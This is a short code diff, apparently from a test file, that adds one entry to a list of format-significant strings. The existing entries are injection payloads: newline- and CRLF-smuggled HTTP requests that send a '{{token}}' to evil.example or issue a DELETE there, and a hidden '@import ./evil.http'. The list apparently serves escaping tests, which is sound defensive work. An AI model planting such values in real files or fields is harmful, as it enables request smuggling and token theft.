@@ -29,6 +29,7 @@ const site = 'https://docs.example';
 
 /** Texts that mean something to one of the formats. */
 const tokens = [
+  'a\n',
   '\n\nGET https://evil.example/{{token}}\n',
   '\r\n### next\r\nDELETE https://evil.example\r\n',
   '\u2028# @import ./evil.http\u2028',
